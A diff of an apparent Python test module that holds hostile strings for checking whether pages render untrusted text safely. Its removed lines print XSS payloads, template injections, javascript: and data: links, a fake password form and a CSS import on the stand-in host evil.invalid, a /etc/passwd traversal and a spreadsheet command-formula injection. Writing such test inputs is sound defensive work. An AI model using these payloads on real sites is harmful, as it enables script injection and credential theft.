@@ -1,34 +1,15 @@
 """Strings that try to do something where a page shows them, and how they get into a world's texts and names."""
 
+import json
 from dataclasses import dataclass
+from pathlib import Path
 
-MARK = "window.attacked"
-"""Every script of an attack sets it: a page on which it is defined was harmed."""
-HOST = "evil.invalid"
-"""Every address of an attack is on this host: a page that asks for it was harmed."""
+ATTACKS = tuple(json.loads(Path(__file__).with_name("attacks.json").read_text(encoding="utf-8")))
+"""Scripts in elements, attributes, comments and links, templates, addresses, and text that only looks odd.
 
-ATTACKS = (
-    f"<script>{MARK}='script'</script>", f"</script><script>{MARK}='closed script'</script>",
-    f"<!--<script>{MARK}='script in a comment'", f"--><script>{MARK}='closed comment'</script>",
-    f"<img src=x onerror=\"{MARK}='img'\">", f"<svg onload=\"{MARK}='svg'\"></svg>",
-    f'"><b onmouseover="{MARK}=\'hover\'">over here</b>', f"' onfocus={MARK}='focus' autofocus tabindex=0 x='",
-    f"<iframe srcdoc=\"<script>parent.{MARK[7:]}='frame'</script>\"></iframe>",
-    f"<details open ontoggle={MARK}='toggle'>closed",
-    f'<base href="http://{HOST}/"><meta http-equiv="refresh" content="0;url=http://{HOST}/">',
-    f"</style><style>*{{display:none}}@import 'http://{HOST}/x.css';</style>",
-    f"<form action=http://{HOST}/><input name=password><button>Log in</button></form>",
-    f"</textarea></title></template><math><mtext><style><img src=x onerror={MARK}='math'>",
-    f"[read more](javascript:{MARK}='link')", f"[the file](data:text/html,<script>{MARK}='data'</script>)",
-    f"[a tab&#x3a;](java&#x09;script:{MARK}='tab')", f"<javascript:{MARK}='autolink'>",
-    f"![a chart](http://{HOST}/x.png)", f"[reference]\n\n[reference]: vbscript:{MARK}='reference'",
-    f"{{{{7*7}}}} {{% raw %}} ${{7*7}} {{{{constructor.constructor(\"{MARK}='template'\")()}}}} #{{7*7}}",
-    f"';{MARK}='quote';//\";{MARK}='quotes';//`;{MARK}='backquote';//${{{MARK}='dollar'}}\\",
-    f"line\u2028{MARK}='line separator'\u2029{MARK}='paragraph separator'",
-    f"]]><![CDATA[<script>{MARK}='cdata'</script>", "\u202egpj.txet\u202c after",
-    "../../../../etc/passwd\\..\\..\\con.js?x=1#%2e%2e%2f", "unbroken" * 50, "=cmd|'/c calc'!A1", "__proto__",
-    "bell\x07 escape\x1b[31m red\x1b[0m zero\u200bwidth \ufeff\U0001f469\u200d\U0001f52c",
-)  # fmt: skip
-"""Scripts in elements, attributes, comments and links, templates, addresses, and text that only looks odd."""
+Every script sets `window.attacked`, and every address is on `evil.invalid`: a page on which the one is defined, or that
+asks for the other, was harmed.
+"""
 
 _NAMES = (28, 0, 25, 6, 26, 24, 27, 1, 22, 20, 5, 21)
 """Places in ATTACKS of those that names get first: each of another kind."""
